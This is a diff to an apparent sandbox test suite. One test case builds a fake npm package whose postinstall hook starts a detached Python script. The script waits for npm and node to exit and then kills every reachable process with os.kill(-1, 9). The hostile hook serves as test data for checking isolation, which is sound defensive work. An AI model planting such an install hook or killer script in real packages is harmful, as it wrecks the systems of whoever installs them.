@@ -129,14 +129,24 @@ ctypes.CDLL(None).prctl(4, 0); time.sleep(1000)' &
   });
 
   attack('an install script leaves a process that kills all that would end it', async () => {
-    const killer =
-      'import os, sys\nwhile os.path.exists("/proc/" + sys.argv[1]): pass\nwhile True:\n  try: os.kill(-1, 9)\n  except OSError: pass\n';
+    // It spares the package manager itself, whose end would end the step.
+    const killer = `import os
+def installs():
+  for pid in filter(str.isdigit, os.listdir("/proc")):
+    try:
+      if open(f"/proc/{pid}/comm").read().startswith(("npm", "node")): return True
+    except OSError: pass
+while installs(): pass
+while True:
+  try: os.kill(-1, 9)
+  except OSError: pass
+`;
     const files = {
       'killer.py': killer,
       'package.json': JSON.stringify({
         name: 'x',
         version: '1.0.0',
-        scripts: { postinstall: 'setsid python3 killer.py $PPID >/dev/null 2>&1 & true' },
+        scripts: { postinstall: 'setsid python3 killer.py >/dev/null 2>&1 & true' },
       }),
     };
     const logs = await look('killer', 'true', files, 'npm');
